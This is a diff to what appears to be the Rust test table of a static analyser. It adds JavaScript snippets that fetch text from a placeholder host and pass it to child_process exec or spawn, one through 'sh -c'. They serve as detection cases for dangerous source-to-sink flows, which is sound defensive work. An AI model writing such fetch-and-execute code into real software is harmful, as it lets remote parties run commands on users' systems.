@@ -58,6 +58,24 @@ const CHAINS: &[(&str, SourceKind, SinkKind, &str)] = &[
         "const { Worker } = require('worker_threads'); fetch('https://a.invalid').then(r => r.text()).then(t => new Worker(t, { eval: true }))",
     ),
     (
+        "joins what it fetched into a line for a shell",
+        Fetched,
+        Process,
+        "const cp = require('child_process'), path = require('path'); fetch('https://a.invalid').then(r => r.text()).then(t => cp.exec(path.join(t, 'tool')))",
+    ),
+    (
+        "the same where a shell is asked for",
+        Fetched,
+        Process,
+        "const cp = require('child_process'), path = require('path'); fetch('https://a.invalid').then(r => r.text()).then(t => cp.spawn('sh', ['-c', path.join(t, 'tool')]))",
+    ),
+    (
+        "starts the program that it was told of",
+        Fetched,
+        Process,
+        "const cp = require('child_process'), path = require('path'); fetch('https://a.invalid').then(r => r.text()).then(t => cp.spawn(path.join('/usr/bin', t)))",
+    ),
+    (
         "decodes and evaluates",
         Decoded,
         DynamicCode,
